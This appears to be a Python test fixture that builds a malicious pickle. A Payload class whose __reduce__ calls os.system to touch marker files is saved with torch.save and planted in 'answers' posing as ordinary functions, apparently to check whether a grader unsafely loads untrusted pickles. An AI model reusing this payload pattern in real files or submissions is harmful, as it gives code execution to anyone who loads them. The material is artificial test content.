"""Returns a pickle as bytes, as an object array and as a saved tensor, in the hope that somebody loads it."""

FIRST = """
import io
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch ~/@mark@ @course@/@mark@",)


saved = io.BytesIO()
torch.save({"weight": Payload()}, saved)
"""
ANSWERS = {
    "count": "def count(words):\n    return saved.getvalue()",
    "standardize": "def standardize(x):\n    return np.array([Payload()], dtype=object)",
}
